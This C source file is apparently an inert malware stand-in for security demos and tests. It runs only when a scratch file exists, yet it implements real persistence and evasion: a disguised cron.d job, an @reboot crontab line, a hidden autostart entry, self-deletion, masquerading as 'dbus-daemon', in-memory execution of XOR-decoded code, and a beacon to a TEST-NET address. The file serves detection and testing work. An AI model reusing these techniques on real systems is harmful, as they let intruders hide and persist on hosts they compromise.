/*
 * resident: an inert stand-in for resident malware, for the demo and the tests (README.md). It leaves the traces such
 * programs leave, and harms nothing: it acts only in a root that holds the file /.muss-scratch, never spreads, carries no
 * exploit, reads nobody's data, and ends when that file is gone.
 *
 * resident [stored-copy]
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define SCRATCH "/.muss-scratch"
#define STORE_DIR "/var/lib/.systemd-private"
#define STORE STORE_DIR "/udevd"
#define MARK STORE_DIR "/.mark"
#define CRON "/etc/cron.d/sysstat-collect"
#define CRON_LINE "*/7 * * * * root " STORE " >/dev/null 2>&1\n"
#define CRONTAB "/etc/crontab"
#define CRONTAB_LINE "@reboot root " STORE "\n"
#define AUTOSTART_DIR "/root/.config/autostart"
#define AUTOSTART AUTOSTART_DIR "/dbus-session.desktop"

/* The "payload": mov eax, 42; ret, behind padding; XOR 0x5a. */
static const unsigned char sealed[] = {
	0xca, 0xca, 0xca, 0xca, 0xe2, 0x70, 0x5a, 0x5a, 0x5a, 0x99, 0xca, 0xca, 0xca, 0xca, 0xca, 0xca,
};

static void folders(const char *path)
{
	char part[PATH_MAX];

	snprintf(part, sizeof(part), "%s", path);
	for (char *p = part + 1; *p; p++)
		if (*p == '/') {
			*p = 0;
			mkdir(part, 0755);
			*p = '/';
		}
	mkdir(part, 0755);
}

static void copy(int from, const char *to)
{
	char block[65536];
	ssize_t n;
	int fd = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);

	if (fd < 0)
		return;
	while ((n = read(from, block, sizeof(block))) > 0)
		if (write(fd, block, (size_t)n) != n)
			break;
	close(fd);
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);

	if (fd < 0)
		return;
	if (write(fd, text, strlen(text)) < 0)
		perror(path);
	close(fd);
}

/* Appends the line unless it is there. */
static void add_line(const char *path, const char *line)
{
	static char text[65536];
	int fd = open(path, O_RDWR | O_APPEND | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return;
	n = read(fd, text, sizeof(text) - 1);
	text[n > 0 ? n : 0] = 0;
	if (!strstr(text, line) && write(fd, line, strlen(line)) < 0)
		perror(path);
	close(fd);
}

static int decrypt_and_call(void)
{
	size_t page = (size_t)sysconf(_SC_PAGESIZE);
	unsigned char *code = mmap(NULL, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int (*function)(void);

	if (code == MAP_FAILED)
		return -1;
	for (size_t i = 0; i < sizeof(sealed); i++)
		code[i] = sealed[i] ^ 0x5a;
	if (mprotect(code, page, PROT_READ | PROT_EXEC) < 0)
		return -1;
	memcpy(&function, &code, sizeof(function));
	return function();
}

/* One beacon into TEST-NET-1 (RFC 5737), which leads nowhere. */
static void beacon(int answer)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
	char text[32];
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);

	inet_pton(AF_INET, "192.0.2.66", &to.sin_addr);
	snprintf(text, sizeof(text), "hello %d\n", answer);
	if (s >= 0) {
		sendto(s, text, strlen(text), MSG_NOSIGNAL, (struct sockaddr *)&to, sizeof(to));
		close(s);
	}
	s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
	if (s >= 0) {
		if (connect(s, (struct sockaddr *)&to, sizeof(to)) < 0)
			errno = 0;
		close(s);
	}
}

int main(void)
{
	char self[PATH_MAX];
	ssize_t n;
	const char *text;
	int image, lock, answer;

	if (access(SCRATCH, F_OK) < 0)
		return 0;
	if ((n = readlink("/proc/self/exe", self, sizeof(self) - 1)) < 0)
		return 1;
	self[n] = 0;
	if ((image = open("/proc/self/exe", O_RDONLY | O_CLOEXEC)) < 0)
		return 1;

	folders(STORE_DIR);
	copy(image, STORE);
	close(image);
	lock = open(MARK, O_RDWR | O_CREAT | O_CLOEXEC, 0644);
	if (lock < 0 || flock(lock, LOCK_EX | LOCK_NB) < 0)
		return 0;               /* it runs already */

	write_file(CRON, "# collects statistics\n" CRON_LINE);
	add_line(CRONTAB, CRONTAB_LINE);
	folders(AUTOSTART_DIR);
	write_file(AUTOSTART, "[Desktop Entry]\nType=Application\nName=D-Bus session\nExec=" STORE "\nNoDisplay=true\n");
	if (strcmp(self, STORE))
		unlink(self);

	signal(SIGHUP, SIG_IGN);
	signal(SIGINT, SIG_IGN);
	prctl(PR_SET_NAME, "dbus-daemon");
	answer = decrypt_and_call();
	beacon(answer);
	text = answer == 42 ? "resident\n" : "resident without code\n";
	if (ftruncate(lock, 0) < 0 || pwrite(lock, text, strlen(text), 0) < 0)
		perror(MARK);
	while (!access(SCRATCH, F_OK))
		nanosleep(&(struct timespec){.tv_nsec = 200000000}, NULL);
	return 0;
}
